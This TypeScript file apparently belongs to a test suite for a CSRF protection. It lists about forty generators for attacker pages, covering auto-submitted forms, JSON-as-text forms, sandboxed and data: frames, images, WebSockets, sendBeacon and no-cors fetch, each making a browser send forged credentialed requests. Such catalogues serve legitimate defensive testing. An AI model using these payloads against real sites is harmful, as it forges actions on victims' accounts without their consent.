/** What an attack is aimed at: the request of a victim's own page, all but who sends it. */
export interface Target {
  readonly address: string;
  readonly method: string;
  readonly fields: Readonly<Record<string, string>>;
  readonly token: string;
}

export interface Attack {
  /** What the attacker's page is, as they would write it. */
  readonly html: (target: Target) => string;
  /** Headers with which the attacker's server sends the page. */
  readonly headers?: Readonly<Record<string, string>>;
  /** `page` sends from the page itself, which stays; the others open something and take longer. */
  readonly place: 'page' | 'frame' | 'tab';
  /** Sent by a page without an origin of its own, which is a stranger even to a sibling. */
  readonly opaque?: true;
  /** The method with which the attack arrives; OPTIONS is the question before, and no attack. */
  readonly arrives: 'GET' | 'POST' | 'OPTIONS';
}

const SUBMIT = '<script>document.forms[0].submit()</script>';

/** Every way that a page of another origin has to make a browser send a request. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  // Forms: <form method="post" action="https://victim.example/account">.
  'a form': { html: (target) => form(target) + SUBMIT, place: 'frame', arrives: 'POST' },
  'a form, multipart': {
    html: (target) => form(target, { enctype: 'multipart/form-data' }) + SUBMIT,
    place: 'frame',
    arrives: 'POST',
  },
  'a form, JSON as text': {
    html: (target) => jsonForm(target) + SUBMIT,
    place: 'frame',
    arrives: 'POST',
  },
  'a form, in a tab': { html: (target) => form(target) + SUBMIT, place: 'tab', arrives: 'POST' },
  'a form, JSON as text, in a tab': {
    html: (target) => jsonForm(target) + SUBMIT,
    place: 'tab',
    arrives: 'POST',
  },
  'a form, in a pop-up': {
    html: (target) =>
      `${form(target, { target: 'popup' })}<script>open('about:blank', 'popup')</script>${SUBMIT}`,
    place: 'frame',
    arrives: 'POST',
  },
  'a form, without a referrer': {
    html: (target) => form(target) + SUBMIT,
    headers: { 'referrer-policy': 'no-referrer' },
    place: 'frame',
    arrives: 'POST',
  },
  'a form, in a sandbox': {
    html: (target) =>
      `<iframe sandbox="allow-forms allow-scripts" srcdoc="${quoted(form(target) + SUBMIT)}"></iframe>`,
    opaque: true,
    place: 'frame',
    arrives: 'POST',
  },
  'a form, in a data: frame': {
    html: (target) =>
      `<iframe src="data:text/html,${encodeURIComponent(form(target) + SUBMIT)}"></iframe>`,
    opaque: true,
    place: 'frame',
    arrives: 'POST',
  },
  'a form, in about:blank': {
    html: (target) =>
      `<iframe></iframe>${script(
        target,
        `
        frames[0].document.body.innerHTML = ${literal(form(target))};
        frames[0].document.forms[0].submit();`,
      )}`,
    place: 'frame',
    arrives: 'POST',
  },
  'a form, redirected': {
    html: (target) =>
      form({ ...target, address: `/redirect?to=${encodeURIComponent(target.address)}` }) + SUBMIT,
    place: 'frame',
    arrives: 'POST',
  },
  'a form, pressed in a frame': {
    html: (target) => `${form(target)}<script>document.querySelector('button').click()</script>`,
    place: 'frame',
    arrives: 'POST',
  },

  // Everything that is opened with GET, with what the form would have sent in its query.
  'a form, GET': {
    html: (target) => form(target, { method: 'get' }) + SUBMIT,
    place: 'frame',
    arrives: 'GET',
  },
  'an image': {
    html: (target) => `<img src="${getAddress(target)}">`,
    place: 'page',
    arrives: 'GET',
  },
  'a script': {
    html: (target) => `<script src="${getAddress(target)}"></script>`,
    place: 'page',
    arrives: 'GET',
  },
  'a style sheet': {
    html: (target) => `<link rel="stylesheet" href="${getAddress(target)}">`,
    place: 'page',
    arrives: 'GET',
  },
  'a frame': {
    html: (target) => `<iframe src="${getAddress(target)}"></iframe>`,
    place: 'frame',
    arrives: 'GET',
  },
  'a link that is followed': {
    html: (target) =>
      `<a href="${getAddress(target)}">Win</a><script>document.links[0].click()</script>`,
    place: 'tab',
    arrives: 'GET',
  },
  'a refresh': {
    html: (target) => `<meta http-equiv="refresh" content="0;url=${getAddress(target)}">`,
    place: 'tab',
    arrives: 'GET',
  },
  'a pop-up': {
    html: (target) => script(target, 'open(address)'),
    place: 'frame',
    arrives: 'GET',
  },
  'an event source': {
    html: (target) => script(target, 'new EventSource(address, { withCredentials: true })'),
    place: 'page',
    arrives: 'GET',
  },
  'a WebSocket': {
    html: (target) => script(target, `new WebSocket(address.replace('http', 'ws'))`),
    place: 'page',
    arrives: 'GET',
  },

  // fetch and its relations, always with the victim's cookies.
  'fetch, JSON': {
    html: fetching(`{ headers: JSON_HEADERS, body: json }`),
    place: 'page',
    arrives: 'OPTIONS',
  },
  'fetch, only the token as a header': {
    html: fetching(`{ headers: { 'x-csrf-token': token }, body: json }`),
    place: 'page',
    arrives: 'OPTIONS',
  },
  'fetch, another method': {
    html: fetching(`{ method: method === 'POST' ? 'PUT' : method, body: json }`),
    place: 'page',
    arrives: 'OPTIONS',
  },
  'fetch, an overridden method': {
    html: fetching(`{ headers: { 'x-http-method-override': method }, body: json }`),
    place: 'page',
    arrives: 'OPTIONS',
  },
  'fetch, JSON as text': { html: fetching(`{ body: json }`), place: 'page', arrives: 'POST' },
  'fetch, a form': {
    html: fetching(`{ body: new URLSearchParams(formFields) }`),
    place: 'page',
    arrives: 'POST',
  },
  'fetch without CORS, JSON as text': {
    html: fetching(`{ mode: 'no-cors', body: json }`),
    place: 'page',
    arrives: 'POST',
  },
  // Refused headers are dropped without a word here, and the request goes out.
  'fetch without CORS, JSON': {
    html: fetching(`{ mode: 'no-cors', headers: JSON_HEADERS, body: json }`),
    place: 'page',
    arrives: 'POST',
  },
  'fetch without CORS, an untyped Blob': {
    html: fetching(`{ mode: 'no-cors', body: new Blob([json]) }`),
    place: 'page',
    arrives: 'POST',
  },
  'fetch without CORS, a form': {
    html: fetching(`{ mode: 'no-cors', body: new URLSearchParams(formFields) }`),
    place: 'page',
    arrives: 'POST',
  },
  'fetch without CORS, multipart': {
    html: fetching(
      `{ mode: 'no-cors', body: Object.entries(formFields).reduce(
        (data, [name, value]) => (data.append(name, value), data), new FormData()) }`,
    ),
    place: 'page',
    arrives: 'POST',
  },
  'fetch without CORS, without a referrer': {
    html: fetching(
      `{ mode: 'no-cors', referrerPolicy: 'no-referrer', body: new URLSearchParams(formFields) }`,
    ),
    place: 'page',
    arrives: 'POST',
  },
  'fetch without CORS, in a sandbox': {
    html: (target) =>
      `<iframe sandbox="allow-scripts" srcdoc="${quoted(
        fetching(`{ mode: 'no-cors', body: new URLSearchParams(formFields) }`)(target),
      )}"></iframe>`,
    opaque: true,
    place: 'frame',
    arrives: 'POST',
  },
  'a beacon, text': {
    html: (target) => script(target, 'navigator.sendBeacon(address, json)'),
    place: 'page',
    arrives: 'POST',
  },
  'a beacon, an untyped Blob': {
    html: (target) => script(target, 'navigator.sendBeacon(address, new Blob([json]))'),
    place: 'page',
    arrives: 'POST',
  },
  'a beacon, a form': {
    html: (target) =>
      script(target, 'navigator.sendBeacon(address, new URLSearchParams(formFields))'),
    place: 'page',
    arrives: 'POST',
  },
};

function form(
  { address, fields, token }: Target,
  attributes: Readonly<Record<string, string>> = {},
): string {
  const query = new URL(address, 'http://attacker.test').searchParams;
  // The query of the address is replaced by the fields when the form is sent with GET.
  const hidden = attributes['method'] === 'get' ? Object.fromEntries(query) : {};
  return `<form ${attributesOf({ method: 'post', action: address, ...attributes })}>
    ${inputs({ ...fields, _csrf: token, ...hidden })}<button>Win</button></form>`;
}

/** A body that reads as JSON: the equals sign between name and value ends up in a string. */
function jsonForm({ address, fields, token }: Target): string {
  const [name = '', value = ''] = JSON.stringify({ ...fields, _csrf: `${token}=` }).split('=');
  return `<form ${attributesOf({ method: 'post', action: address, enctype: 'text/plain' })}>
    ${inputs({ [name]: value })}</form>`;
}

function inputs(fields: Readonly<Record<string, string>>): string {
  return Object.entries(fields)
    .map(([name, value]) => `<input ${attributesOf({ type: 'hidden', name, value })}>`)
    .join('');
}

function attributesOf(attributes: Readonly<Record<string, string>>): string {
  return Object.entries(attributes)
    .map(([name, value]) => `${name}="${quoted(value)}"`)
    .join(' ');
}

function getAddress({ address, fields, token }: Target): string {
  return quoted(`${address}&${new URLSearchParams({ ...fields, _csrf: token })}`);
}

function fetching(options: string): Attack['html'] {
  return (target) =>
    script(
      target,
      `const JSON_HEADERS = { 'content-type': 'application/json', 'x-csrf-token': token };
       fetch(address, { method: 'POST', credentials: 'include', ...${options} }).catch(() => {});`,
    );
}

function script(target: Target, code: string): string {
  return `<script>{
    const { address, method, fields, token } = ${literal(target)};
    const json = JSON.stringify(fields);
    const formFields = { ...fields, _csrf: token };
    ${code}
  }</script>`;
}

function literal(value: unknown): string {
  return JSON.stringify(value).replaceAll('<', '\\u003c');
}

function quoted(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
}
